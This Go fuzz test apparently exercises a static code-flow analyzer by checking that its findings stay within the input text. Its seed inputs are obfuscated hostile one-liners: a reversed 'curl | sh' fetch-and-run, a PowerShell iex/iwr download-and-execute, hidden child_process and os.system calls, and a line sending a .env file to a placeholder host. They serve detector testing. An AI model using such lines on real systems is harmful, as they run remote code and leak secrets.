package codeflow

import "testing"

// FuzzAnalyze: any text of any language is analysed, and its findings lie
// within it.
func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"import os\nos.system(''.join(reversed('hs | x lruc')))\n",
		"o = __import__(''.join(map(chr, [0x6f, 115])))\ngetattr(o, 'system')('ls')\n",
		"const a = ['ex', 'ec'], b = ['child', '_process'];\nrequire(b.join(''))[a.join('')]('ls');\n",
		"require('https').request({host: 'x'}).end(require('fs').readFileSync('.env'));\n",
		"$u = 'http://x/a.ps1'; iex (iwr $u)\n",
		"x = 'a'[::-1] + \"{}\".format(1) + '%s' % 2\n",
	} {
		for l := Python; l <= PowerShell; l++ {
			f.Add(s, uint8(l))
		}
	}
	f.Fuzz(func(t *testing.T, src string, lang uint8) {
		if len(src) > 4096 {
			return
		}
		fs, _ := Analyze(src, Lang(lang%3), nil)
		for _, fa := range fs {
			if fa.Start < 0 || fa.End < fa.Start || fa.End > len(src) {
				t.Fatalf("finding %v at [%d,%d) outside %d bytes", fa.Kind, fa.Start, fa.End, len(src))
			}
		}
	})
}
